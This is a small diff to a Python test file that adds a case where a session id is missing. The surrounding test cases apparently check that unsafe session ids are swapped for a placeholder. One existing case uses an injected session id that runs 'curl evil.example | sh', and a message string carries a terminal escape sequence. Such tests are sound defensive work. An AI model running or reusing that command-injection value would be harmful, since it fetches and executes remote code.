@@ -253,6 +253,7 @@ def test_a_session_that_waits_for_an_answer_says_where_it_can_be_given() -> None
         ("local", "--local", "5e55", "5e55"),
         ("devbox", "devbox", "5e55`; curl evil.example | sh #", "SESSION"),
         ("devbox", "devbox", "5" * 100, "SESSION"),
+        ("devbox", "devbox", None, "SESSION"),
     ):
         refused = Refused(
             "waits_for_answer", "this session waits for an answer about Ba\x1b[31msh", {"session": session}
